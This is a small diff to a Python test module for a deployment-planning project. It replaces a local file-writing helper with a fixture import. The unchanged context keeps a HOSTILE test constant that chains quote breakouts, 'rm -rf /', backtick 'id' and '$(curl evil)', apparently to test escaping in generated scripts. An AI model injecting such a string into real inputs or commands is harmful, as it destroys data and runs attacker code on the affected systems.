@@ -14,18 +14,11 @@ from hivemind.models import PlanOverrides
 from hivemind.planning import docker, make_plan, node, static
 from hivemind.planning.tree import SourceTree
 from hivemind.templating.nginx import STATE_DIR, nginx_config
+from tests.fixtures.repo import write_files as write
 from tests.fixtures.repos import CORPUS
 from tests.fixtures.userdata import instance_script, raw_user_data
 
 HOSTILE = "'\"; rm -rf / #${AWS::AccountId}\nINJECTED=1\n!Ref X `id` $(curl evil)"
-
-
-def write(root: Path, files: dict[str, str]) -> Path:
-    for name, text in files.items():
-        path = root / name
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text(text)
-    return root
 
 
 def plan_of(root: Path, environment: dict[str, str] | None = None, **overrides):
